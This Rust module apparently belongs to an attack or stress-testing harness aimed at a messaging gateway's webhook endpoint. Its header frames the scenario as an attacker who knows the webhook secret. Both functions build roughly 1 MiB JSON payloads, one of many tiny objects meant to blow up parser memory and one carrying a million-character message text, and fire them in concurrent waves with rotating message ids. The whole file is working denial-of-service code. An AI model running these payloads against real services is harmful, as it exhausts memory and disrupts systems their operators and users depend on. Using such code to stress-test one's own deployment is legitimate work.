//! Large webhooks of a number whose secret the attacker knows.

use std::sync::Arc;
use std::time::Duration;

use super::Target;
use super::load::Load;
use super::wire::{address, ask};

const MIB: usize = 1 << 20;

/// Statuses of unknown messages. Each is a long list of small objects, which take much memory as JSON values.
pub(super) async fn post_many_objects(target: &Target) -> String {
    let head = r#"{"event":"messages.update","data":{"keyId":"NUMBER","fromMe":true,"status":"READ","x":["#;
    let objects = r#"{"a":0},"#.repeat((MIB - head.len() - 16) / 8);
    let body = format!("{head}{objects}0]}}}}");
    let (count, at_once) = (target.divided(1350), target.divided(16));
    let load = Load { count, at_once, over: Duration::ZERO, at_most: target.seconds(20) };
    post(target, load, body).await
}

/// Events that may prove that a message left, with a long text.
pub(super) async fn post_long_texts(target: &Target) -> String {
    let text = "x".repeat(1_000_000);
    let key = r#"{"id":"NUMBER","remoteJid":"1@lid","fromMe":true}"#;
    let body = format!(r#"{{"event":"send.message","data":{{"key":{key},"message":{{"conversation":"{text}"}}}}}}"#);
    let load = Load { count: target.divided(716), at_once: 100, over: target.seconds(10), at_most: target.seconds(20) };
    post(target, load, body).await
}

/// `NUMBER` in the body is another six digits in each webhook.
async fn post(target: &Target, load: Load, body: String) -> String {
    let (target, body): (_, Arc<str>) = (target.clone(), body.into());
    let answers = load.run(|n| {
        let (target, body) = (target.clone(), Arc::clone(&body));
        async move {
            let body = body.replacen("NUMBER", &format!("{n:06}"), 1);
            ask(target.api, address(n % 4), target.webhook(body.as_bytes())).await
        }
    });
    answers.await.to_string()
}
